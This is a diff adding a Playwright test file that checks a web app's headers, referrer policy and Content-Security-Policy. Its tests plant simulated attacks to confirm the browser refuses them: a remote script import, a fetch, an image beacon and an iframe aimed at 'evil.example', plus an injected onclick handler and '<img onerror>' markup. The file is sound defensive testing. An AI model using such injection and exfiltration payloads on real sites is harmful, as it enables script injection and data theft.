@@ -1,0 +1,92 @@
+/** The page's Content-Security-Policy: as the build has written it, and kept by the browser. Every other test fails on a violation too. */
+import { readFileSync } from 'node:fs';
+import type { Page } from '@playwright/test';
+import { expect, test } from '../../native-shims/src/playwright.ts';
+import { zh } from '../src/screens/entry/words/zh.ts';
+
+test.use({ allowErrors: [/Content Security Policy|Trusted(?:HTML|Script)/] });
+
+async function openHome(page: Page): Promise<void> {
+  await page.goto('/health/');
+  await expect(page.getByText(zh.home.visitor)).toBeVisible();
+}
+
+/** Does what an attacker's foothold would do: loads code of its own. As text, because the runner would rewrite the import. */
+const plantScript = (page: Page) => page.evaluate("import('https://evil.example/a.js').catch(() => undefined)");
+
+/** Takes out what a test has planted: header and tag have each refused it. */
+async function expectRefused(page: Page, violations: string[], words: RegExp): Promise<void> {
+  await expect.poll(() => violations.filter((one) => words.test(one))).toHaveLength(2);
+  // What the console says of it has come when the page answers again.
+  await page.evaluate(() => undefined);
+  violations.splice(0);
+}
+
+test('every page and file of the app comes with the headers that the build names', async ({ page, request }) => {
+  const file = readFileSync('dist/web/_headers', 'utf8');
+  const named = [...file.matchAll(/^ {2}([\w-]+): (.*)$/gm)].map(([, name = '', value]) => [name.toLowerCase(), value]);
+  expect(named.map(([name]) => name)).toEqual(['content-security-policy', 'referrer-policy', 'x-content-type-options']);
+  await openHome(page);
+  const files = await page.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name));
+  const assets = files.filter((name) => name.includes('/assets/'));
+  expect(assets.length).toBeGreaterThan(3);
+  for (const path of ['/health/', '/health/package-list', '/health/worker.js', ...assets])
+    expect((await request.get(path)).headers()).toMatchObject(Object.fromEntries(named));
+});
+
+test('what a page sends elsewhere names its origin at most', async ({ page }) => {
+  await openHome(page);
+  const answer = page.waitForRequest(/\/api\//);
+  await page.reload();
+  const referrer = (await (await answer).allHeaders())['referer'];
+  expect(referrer).toBe(`${new URL(page.url()).origin}/`);
+});
+
+test('a script of another origin, of the page’s text, or of markup does not run', async ({ page, violations }) => {
+  await openHome(page);
+  await plantScript(page);
+  await expectRefused(page, violations, /^script-src-elem https:\/\/evil.example/);
+  const handler = page.evaluate(() => document.body.setAttribute('onclick', 'window.planted = 1'));
+  await expect(handler).rejects.toThrow(/TrustedScript/);
+  await expectRefused(page, violations, /^require-trusted-types-for/);
+  const markup = page.evaluate(() => {
+    document.body.innerHTML = '<img src="x" onerror="window.planted = 1">';
+  });
+  await expect(markup).rejects.toThrow(/TrustedHTML/);
+  await expectRefused(page, violations, /^require-trusted-types-for/);
+  expect(await page.evaluate(() => 'planted' in window)).toBe(false);
+});
+
+test('nothing is sent to another server, shown from one, or framed', async ({ page, violations }) => {
+  await openHome(page);
+  const called = page.evaluate(() => fetch('https://evil.example/').then(String, String));
+  expect(await called).toMatch(/TypeError/);
+  await expectRefused(page, violations, /^connect-src https:\/\/evil.example/);
+  await page.evaluate(() => {
+    new Image().src = 'https://evil.example/pixel';
+  });
+  await expectRefused(page, violations, /^img-src https:\/\/evil.example/);
+  await page.evaluate(() => {
+    const frame = document.createElement('iframe');
+    frame.src = 'https://evil.example/';
+    document.body.append(frame);
+  });
+  await expectRefused(page, violations, /^frame-src https:\/\/evil.example/);
+});
+
+test('H10: a client’s own bridge may wake its app with a frame', async ({ page }) => {
+  await openHome(page);
+  await page.evaluate(() => {
+    const frame = document.createElement('iframe');
+    frame.src = 'weixin://dispatch_message/';
+    document.body.append(frame);
+  });
+});
+
+test('a violation fails the test, even one that expects its line in the console', async ({ page, violations }) => {
+  await openHome(page);
+  await plantScript(page);
+  await expect.poll(() => violations.length).toBeGreaterThan(0);
+  // The check at the end of every test is what fails now.
+  test.fail();
+});
